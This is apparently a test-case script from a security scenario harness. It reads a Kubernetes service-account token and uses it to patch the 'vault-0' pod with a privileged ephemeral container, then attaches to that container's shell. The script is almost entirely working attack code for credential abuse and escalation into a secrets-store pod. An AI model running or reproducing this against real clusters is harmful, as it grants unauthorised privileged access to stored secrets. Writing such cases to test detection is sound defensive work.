#!/bin/sh
. /opt/case/case.sh

python3 -c '
import json, urllib.request
t = open("/var/run/secrets/kubernetes.io/serviceaccount/token").read()
body = {"spec": {"ephemeralContainers": [{"name": "debugger", "image": "busybox", "targetContainerName": "vault", "stdin": True, "tty": True, "command": ["sh"], "securityContext": {"privileged": True}}]}}
r = urllib.request.Request("http://10.77.0.1:6443/api/v1/namespaces/vault/pods/vault-0/ephemeralcontainers", json.dumps(body).encode(), {"Authorization": "Bearer " + t, "Content-Type": "application/strategic-merge-patch+json"}, method="PATCH")
assert urllib.request.urlopen(r).status == 200
urllib.request.urlopen(urllib.request.Request("http://10.77.0.1:6443/api/v1/namespaces/vault/pods/vault-0/attach?container=debugger&stdin=true", headers={"Authorization": "Bearer " + t, "Upgrade": "SPDY/3.1"}))'
took_place
